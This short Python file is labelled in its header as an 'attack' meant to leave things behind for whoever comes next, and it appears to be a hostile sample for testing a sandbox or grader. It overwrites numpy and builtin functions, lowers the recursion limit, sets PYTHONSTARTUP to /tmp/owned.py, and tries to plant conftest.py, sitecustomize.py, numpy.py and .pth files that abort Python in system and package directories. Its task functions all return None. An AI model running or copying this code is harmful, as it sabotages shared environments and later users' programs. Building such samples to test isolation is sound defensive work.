# /// attack
# tries = "Leaves things behind for whoever comes next: files, random state, modules, numpy settings."
# gain = "harm"
# plain = "nothing"
# ///
import builtins
import os
import sys

import numpy as np

np.seterr(all="raise")
np.random.seed(0)
np.asarray = lambda *a, **k: np.zeros(1)
builtins.sum = lambda *a: 0
sys.modules["numpy"].zeros = None
sys.setrecursionlimit(50)
os.environ["PYTHONSTARTUP"] = "/tmp/owned.py"
for place in ("/", "/tmp", "/dev/shm", "/var/tmp", os.path.dirname(np.__file__)):
    for name in ("conftest.py", "sitecustomize.py", "numpy.py", "canary.pth"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("raise SystemExit")
            raise RuntimeError("LEAKED SECRET-" + place)
        except OSError:
            pass


def double(x):
    return None


def Box():
    return None


def apply(f, x):
    return None
